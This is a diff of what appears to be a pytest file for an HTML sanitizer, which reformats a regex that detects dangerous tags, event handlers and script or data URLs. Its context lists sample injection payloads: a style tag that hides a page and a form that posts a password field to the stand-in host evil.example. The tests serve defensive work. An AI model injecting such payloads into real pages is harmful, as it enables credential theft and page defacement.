@@ -28,7 +28,9 @@ CLASSICS = [
     "<style>*{display:none}</style>",
     "<form action=https://evil.example><input name=password></form>",
 ]
-DANGER = re.compile(r"<(script|img|svg|iframe|style|form|input|object|embed)|<[^>]* on\w+=|<[^>]*(script|data):", re.IGNORECASE)
+DANGER = re.compile(
+    r"<(script|img|svg|iframe|style|form|input|object|embed)|<[^>]* on\w+=|<[^>]*(script|data):", re.IGNORECASE
+)
 
 
 @pytest.mark.parametrize("classic", CLASSICS)
